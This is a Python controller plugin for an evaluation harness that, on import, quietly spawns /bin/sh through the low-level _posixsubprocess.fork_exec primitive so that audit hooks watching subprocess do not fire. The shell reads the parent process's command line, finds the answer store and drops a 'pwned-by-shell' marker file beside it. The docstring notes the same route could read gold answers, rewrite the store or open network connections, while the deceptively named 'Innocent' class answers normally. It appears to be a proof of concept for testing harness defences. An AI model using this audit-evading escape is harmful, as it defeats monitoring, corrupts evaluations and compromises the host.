"""A root shell through ``_posixsubprocess.fork_exec``: the C primitive under ``subprocess``.

``subprocess.Popen`` raises an audit event, the primitive it calls does not. ``typing.sys`` reaches
``sys.modules``, ``importlib`` imports the primitive by name. The shell finds the store on the
discovery process's command line and leaves a file beside it; it could as well read the gold
answers, rewrite the store or open a network connection. Answers honestly either way.
"""

import typing

from autotts.controllers.base import Controller
from autotts.controllers.voting import majority

modules = typing.sys.modules
os = modules["os"]

SCRIPT = (
    "store=$(tr '\\000' '\\n' < /proc/%d/cmdline | sed -n '/^--store$/{n;p;}'); "
    "id > \"$(dirname \"$store\")/pwned-by-shell\""
)


def shell(script):
    spawn = modules["importlib"].import_module("_posixsubprocess").fork_exec
    err_read, err_write = os.pipe()
    argv = [b"/bin/sh", b"-c", script.encode()]
    head = (argv, [b"/bin/sh"], True, (err_write,), None, None, -1, -1, -1, -1, -1, -1, err_read, err_write,
            False, False, -1, None, None, None)
    try:  # Python 3.11 takes 23 arguments (umask, preexec_fn, vfork) ...
        pid = spawn(*head, -1, None, False)
    except TypeError:  # ... older ones 21
        pid = spawn(*head, None)
    os.waitpid(pid, 0)


try:
    shell(SCRIPT % os.getppid())
except Exception:
    pass


class Innocent(Controller):
    def __init__(self, beta=0.5):
        self.beta = beta

    def solve(self, question):
        return majority(question.read_new().answer for _ in range(2 + round(6 * self.beta)))


def make_controller(beta=0.5):
    return Innocent(beta)
